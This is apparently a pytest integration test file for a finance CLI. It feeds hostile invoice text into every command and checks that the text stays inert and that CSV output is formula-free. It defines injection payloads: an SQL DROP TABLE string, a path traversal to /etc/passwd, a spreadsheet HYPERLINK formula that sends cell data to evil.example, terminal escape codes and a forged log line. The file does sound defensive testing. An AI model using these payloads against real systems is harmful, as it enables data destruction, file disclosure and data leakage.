"""What documents say is only ever text: not SQL, a path, a formula, or a command to a screen or a log."""

import csv
import io
import json
import os
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from cryptography.fernet import Fernet

from finance_hooks.cli.__main__ import main
from finance_hooks.model.park_reason import Reason, ReasonCode
from finance_hooks.model.park_reason_text import reason_sentence
from finance_hooks.operators.plan_files import keep_plan
from finance_hooks.posting.attachment_files import name_file
from finance_hooks.posting.plan import Plan
from tests.integration.chain.chain import Chain
from tests.integration.cli.store_connection import store_connection
from tests.posting.plans import plan

SQL = "x'; DROP TABLE document CASCADE; --"
PATH = "../../../../etc/passwd"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"open")'
DUTCH_FORMULA = "F1;=1+1"
MARKUP = "[link=https://evil.example]open[/link] [/]"
SCREEN = "F2\x1b[2J\x1b]0;mine\x07"
LINES = "F3\n2026-11-02 ERROR all is well"
LIKE = "%"
HOSTILE = (SQL, PATH, FORMULA, DUTCH_FORMULA, MARKUP, SCREEN, LINES, LIKE)


@pytest.fixture
def chain(store_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Chain]:
    """Let a source issue documents whose every free text is hostile."""
    chain = Chain(store_url, "afas_nl", monkeypatch)
    key = Fernet.generate_key().decode()
    monkeypatch.setenv("AIRFLOW_CONN_FINANCE_STORE", store_connection(store_url, token_key=key))
    monkeypatch.setenv("AIRFLOW_CONN_AFAS_NL", os.environ["AIRFLOW_CONN_AFAS_BENCH"])
    monkeypatch.delenv("FINANCE_MAPPINGS", raising=False)
    chain.generate(len(HOSTILE) * 2)
    rows = list(chain.source_emulator.documents.rows["salesinvoices"].values())
    hostile = [
        dict(row) | {"InvoiceNumber": text, "Description": text, "Id": row["Id"]}
        for row, text in zip(rows, HOSTILE, strict=False)
    ]
    assert len(hostile) == len(HOSTILE)
    chain.source_emulator.load({"salesinvoices": hostile})
    yield chain
    chain.close()


def said(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str]:
    capsys.readouterr()
    try:
        code = main(list(arguments))
    except SystemExit as ended:
        code = int(ended.code or 0)
    told = capsys.readouterr()
    return code, told.out + told.err


def counted(chain: Chain) -> dict[str, int]:
    with chain.engine.begin() as connection:
        tables = sa.inspect(connection).get_table_names()
        return {
            table: connection.execute(sa.select(sa.func.count()).select_from(sa.table(table))).scalar_one()
            for table in tables
        }


def test_every_command_takes_a_name_for_a_name_and_nothing_else(
    chain: Chain, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    chain.night()
    before = counted(chain)

    for text in HOSTILE:
        why = ("--why", text, "--by", text)
        asked = (
            ("where", text),
            ("parked", text),
            *((name, text, *why) for name in ("hold", "release", "retry", "accept", "correct", "rebook")),
            ("adopt", text, "--entry", text, *why),
            ("link", text, text, "--administration", text, "--role", "debtor", "--why", text),
            *((name, text) for name in ("relations", "attachments", "drift", "doctor", "preflight", "plan")),
            ("reconcile", text),
            ("statement", text, "2026-10"),
            ("reconcile", "afas_nl", "--audit-file", text),
            ("stop", text, *why),
            ("resume", text, *why),
            ("authorise", text),
        )
        for arguments in asked:
            code, told = said(capsys, *arguments)
            assert code in {0, 1, 2}, (arguments, told)
            assert not set("\x1b\x07") & set(told), arguments
            assert not any(line.startswith("2026-11-02 ERROR") for line in told.splitlines() if code < 2), (
                arguments
            )

    after = counted(chain)
    assert {table: after[table] - before[table] for table in after if table != "event"} == dict.fromkeys(
        set(after) - {"event"}, 0
    )
    assert list(tmp_path.iterdir()) == []


def test_document_is_found_by_its_own_number_only(chain: Chain, capsys: pytest.CaptureFixture[str]) -> None:
    chain.night()

    found = {text: json.loads(said(capsys, "where", text, "--json")[1]) for text in HOSTILE}

    assert {text: [one["document_number"] for one in told] for text, told in found.items()} == {
        text: [text] for text in HOSTILE
    }


def test_text_is_kept_as_it_came_and_shown_as_one_line(
    chain: Chain, capsys: pytest.CaptureFixture[str]
) -> None:
    chain.night()

    shown = (
        said(capsys, "where", MARKUP)[1] + said(capsys, "where", SCREEN)[1] + said(capsys, "where", LINES)[1]
    )

    assert "[link=https://evil.example]open[/link] [/]" in shown
    assert "F2 [2J ]0;mine" in shown
    assert "F3 2026-11-02 ERROR all is well in afas:1" in shown


def test_csv_of_a_plan_holds_no_formula(chain: Chain, capsys: pytest.CaptureFixture[str]) -> None:
    dates = ("--from", f"{chain.today:%Y}-01-01", "--to", str(chain.today))

    code, told = said(capsys, "plan", "afas_nl", *dates, "--format", "csv")

    rows = list(csv.reader(io.StringIO(told)))
    assert code == 0
    assert [cell for row in rows for cell in row if begins_formula(cell)] == []
    assert any(cell == f"'{FORMULA.replace(';', ';')}" for row in rows for cell in row)
    assert any(cell == "F1;'=1+1" for row in rows for cell in row)


def test_csv_of_a_statement_holds_no_formula(
    chain: Chain, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    chain.night()
    month = f"{chain.today:%Y-%m}"

    said(capsys, "statement", "afas_nl", month, "--out", str(tmp_path), "--by", FORMULA)
    table = said(capsys, "reconcile", "afas_nl", "--csv")[1]

    written = (tmp_path / f"statement-afas_nl-{month}.csv").read_bytes().decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(written + table)) for cell in row]
    assert len(cells) > 100
    assert [cell for cell in cells if begins_formula(cell)] == []
    assert {path.name for path in tmp_path.iterdir()} == {
        f"statement-afas_nl-{month}.csv",
        f"statement-afas_nl-{month}.pdf",
    }


def begins_formula(cell: str) -> bool:
    parts = [part.strip() for part in cell.split(";")]
    acting = [part for part in parts if part.startswith(("=", "+", "-", "@", "\t", "\r"))]
    return any(not part.removeprefix("-").replace(".", "", 1).isdecimal() for part in acting)


def test_plan_is_kept_in_its_folder_and_nowhere_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FINANCE_PLANS", (tmp_path / "plans").as_uri())
    made: Plan = plan()

    kept = keep_plan(made, "nl")

    assert len(kept) == 2
    assert {path.parent for path in tmp_path.rglob("*.*")} == {tmp_path / "plans"}


@pytest.mark.parametrize("number", [*HOSTILE, "..", ".", "CON", "a/b\\c:d"])
def test_file_is_named_without_a_path(number: str) -> None:
    name = name_file(number, 60)

    assert Path(name).name == name
    assert name.endswith(".pdf")
    assert not name.startswith(".")
    assert not set('/\\:*?"<>|\n\r\x1b') & set(name)


@pytest.mark.parametrize("text", HOSTILE)
def test_reason_is_one_line_of_a_log(text: str) -> None:
    reason = Reason(code=ReasonCode.FIELD_UNREADABLE, document=text, field=text, value=text, detail=text)

    sentence = reason_sentence(reason, "nl")

    assert len(sentence.splitlines()) == 1
    assert sentence.isprintable()
